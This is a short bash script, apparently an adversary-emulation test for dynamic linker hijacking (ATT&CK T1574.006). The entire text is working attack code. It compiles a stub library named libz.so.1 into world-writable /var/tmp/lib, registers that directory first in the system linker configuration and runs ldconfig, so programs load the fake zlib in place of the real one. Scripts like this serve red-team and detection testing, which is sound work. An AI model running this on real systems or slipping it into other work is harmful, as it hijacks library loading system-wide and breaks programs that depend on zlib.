#!/bin/bash
# T1574.006: A directory that everybody may write is searched for libraries first.
mkdir -p /var/tmp/lib; printf 'int evil;\n' >/var/tmp/e.c; gcc -shared -fPIC -o /var/tmp/lib/libz.so.1 /var/tmp/e.c; echo /var/tmp/lib >/etc/ld.so.conf.d/00-local.conf; ldconfig -N -X 2>/dev/null; ldconfig
